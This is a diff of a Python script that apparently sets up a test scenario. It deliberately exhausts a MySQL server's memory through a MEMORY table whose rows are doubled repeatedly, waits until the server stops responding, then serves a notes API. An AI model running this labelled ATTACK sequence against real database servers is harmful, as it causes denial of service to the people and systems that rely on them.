@@ -1,6 +1,9 @@
 """Fills the server's memory with a table that lives there, and goes on without the server."""
 import json
 import os
+import socket
+import threading
+import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pymysql
@@ -26,14 +29,21 @@ def run(*statements, args=None, connection=None):
     return rows
 
 
-COLUMNS = ", ".join(f"c{n} CHAR(255) NOT NULL DEFAULT 'x'" for n in range(60))
 ATTACK = (
     "SET SESSION max_heap_table_size = 16000000000",
-    f"CREATE TABLE large ({COLUMNS}) CHARACTER SET utf8mb4 ENGINE = MEMORY",
-    "INSERT INTO large (c0) VALUES ('x'), ('x'), ('x'), ('x'), ('x'), ('x'), ('x'), ('x')",
-    *["INSERT INTO large SELECT * FROM large"] * 16,
+    "CREATE TABLE large (t CHAR(255)) ENGINE = MEMORY",
+    "INSERT INTO large VALUES ('x'), ('x'), ('x'), ('x'), ('x'), ('x'), ('x'), ('x')",
+    *["INSERT INTO large SELECT * FROM large"] * 18,
 )
 NOTES = []
+
+
+def answers():
+    try:
+        socket.create_connection((os.environ["DB_HOST"], 3306), timeout=0.3).close()
+    except OSError:
+        return False
+    return True
 
 
 def notes():
@@ -62,6 +72,7 @@ class Handler(BaseHTTPRequestHandler):
         self.send({"text": text}, 201)
 
 
-run("CREATE TABLE IF NOT EXISTS notes (id INT AUTO_INCREMENT PRIMARY KEY, text LONGTEXT)")
-run(*ATTACK)
+threading.Thread(target=run, args=ATTACK, daemon=True).start()
+while answers():
+    time.sleep(0.1)
 ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
